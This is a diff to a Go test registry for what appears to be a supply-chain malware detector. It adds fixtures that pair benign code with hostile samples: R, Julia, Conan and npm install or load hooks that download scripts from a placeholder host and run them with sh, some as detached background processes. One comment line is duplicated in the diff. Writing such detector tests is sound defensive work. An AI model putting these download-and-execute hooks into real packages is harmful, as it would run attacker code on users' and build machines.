@@ -210,6 +210,8 @@ var registry = []Rule{
 		{"R/zzz.R", ".onLoad <- function(libname, pkgname) {\n  f <- tempfile(fileext = \".R\")\n  download.file(\"https://x.invalid/a.R\", f, quiet = TRUE)\n  source(f)\n}", 4, false},
 		{".Rprofile", "local({\n  f <- tempfile()\n  download.file(\"https://x.invalid/a.sh\", f)\n  system(paste(\"sh\", f), wait = FALSE)\n})", 4, false},
 		{"R/data.R", "f <- tempfile(fileext = \".csv\")\ndownload.file(\"https://x.invalid/d.csv\", f)\nd <- read.csv(f)\nsource(\"R/helpers.R\")", 0, true},
+		// A class's own run method handed downloaded data starts nothing.
+		{"setup.py", "import requests\nclass Sync:\n    def go(self):\n        data = requests.get('https://x.invalid/a.json').json()\n        self.run(data)", 0, true},
 		// A Julia package's deps/build.jl runs at Pkg.build.
 		{"deps/build.jl", "using Downloads\np = Downloads.download(\"https://x.invalid/a.sh\", \"a.sh\")\nrun(`sh $p`)", 3, false},
 		{"deps/build.jl", "run(`make -C src`)", 0, true},
@@ -773,6 +775,7 @@ var registry = []Rule{
 		"the install returns and the process keeps running, out of the build log's sight, with the runner's network and secrets (as the Shai-Hulud loader started its payload)", []Case{
 			{"setup_bun.js", "diff --git a/package.json b/package.json\n--- a/package.json\n+++ b/package.json\n@@ -2,3 +2,4 @@\n   \"scripts\": {\n+    \"preinstall\": \"node setup_bun.js\",\n     \"test\": \"jest\"\n   },\ndiff --git a/setup_bun.js b/setup_bun.js\nnew file mode 100644\n--- /dev/null\n+++ b/setup_bun.js\n@@ -0,0 +1,3 @@\n+const { spawn } = require('child_process')\n+const p = require('path')\n+spawn('bun', [p.join(__dirname, 'env.js')], { detached: true, stdio: 'ignore' }).unref()\n", 3, false},
 			{"setup.py", "import subprocess\nsubprocess.Popen(['python', 'agent.py'], start_new_session=True)", 2, false},
+			// A conanfile downloads a script and leaves it running in the background.
 			// A conanfile downloads a script and leaves it running in the background.
 			{"conanfile.py", "from conan import ConanFile\nfrom conan.tools.files import download\nclass P(ConanFile):\n    def build(self):\n        download(self, 'https://x.invalid/f.sh', 'f.sh')\n        self.run('sh f.sh >/dev/null 2>&1 &')", 6, false},
 			// Whatever runs it, a script that installs a runtime and leaves a
